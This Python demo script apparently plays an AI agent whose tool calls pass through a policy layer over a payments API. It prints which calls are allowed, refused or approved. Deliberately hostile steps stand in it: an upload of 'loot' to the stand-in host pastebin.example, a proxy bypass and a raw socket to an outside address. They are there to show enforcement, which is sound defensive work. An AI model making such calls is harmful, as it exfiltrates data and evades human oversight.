"""The agent of the demo: makes one call after the other and says how each went, as one JSON object per line."""

import json
import os
import socket
import urllib.error
import urllib.request

PAYMENTS = os.environ["TOOL_PAYMENTS_URL"]


def say(step, **facts):
    print(json.dumps({"step": step, **facts}), flush=True)


def call(method, url, body=None):
    """An agent needs nothing special: any HTTP client does, refusals are answers with a code and a hint."""
    request = urllib.request.Request(
        url,
        method=method,
        data=None if body is None else json.dumps(body).encode(),
        headers={"Content-Type": "application/json"},
    )
    try:
        with urllib.request.urlopen(request) as answer:
            return {"status": answer.status, "answer": json.load(answer)}
    except urllib.error.HTTPError as refusal:
        return {"status": refusal.code, "answer": json.load(refusal)}


def go_around():
    """Whatever a program may try by itself."""
    try:
        socket.create_connection(("192.0.2.1", 8443), timeout=5).close()
        return ""
    except OSError as error:
        return str(error)


say("started", url=PAYMENTS)
say("allowed", **call("GET", PAYMENTS + "/v1/charges"))
QUESTION = {"model": os.environ["LLM_MODEL"], "messages": [{"role": "user", "content": "May ch_1 be refunded?"}]}
say("model", **call("POST", os.environ["LLM_GATEWAY_URL"] + "/chat/completions", QUESTION))
say("unregistered", **call("POST", "http://pastebin.example/upload", {"loot": "everything"}))
say("policy", **call("DELETE", PAYMENTS + "/v1/charges/ch_1"))
say("capability", **call("GET", PAYMENTS + "/v1/balance"))
say("asking")
say("approved", **call("POST", PAYMENTS + "/v1/refunds", {"charge": "ch_1", "amount": 4200, "reason": "damaged"}))
if "DEMO_FENCE" in os.environ:
    API = "http://127.0.0.1:@PORT@"
    urllib.request.install_opener(urllib.request.build_opener(urllib.request.ProxyHandler({})))
    say("direct", url=API, **call("GET", API + "/v1/charges"))
    say("around", to="192.0.2.1:8443", error=go_around())
